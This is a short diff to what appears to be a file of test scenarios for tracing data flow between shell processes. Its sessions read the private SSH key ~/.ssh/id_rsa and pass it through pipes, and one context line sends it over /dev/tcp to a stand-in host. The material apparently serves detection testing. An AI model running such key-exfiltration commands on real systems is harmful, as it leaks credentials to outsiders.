@@ -34,7 +34,7 @@ cat ~/.ssh/id_rsa >kept
 bash -c 'read -r key <kept; say() { exec 3<>/dev/tcp/$1/80; echo "$key" >&3; }; say 192.0.2.2'
 S
 session pipe 2026-11-06 <<'S'
-{ read -r page <~/Downloads/page; exec cat ~/.ssh/id_rsa; } | bash -c 'read -r key; echo "$key" >~/pipe'
+{ read -r page <~/Downloads/page; sleep 0.5; exec cat ~/.ssh/id_rsa; } | bash -c 'read -r key; echo "$key" >~/pipe'
 S
 # In that order, by processes that have one parent and no more.
 session siblings 2026-11-07 <<'S'
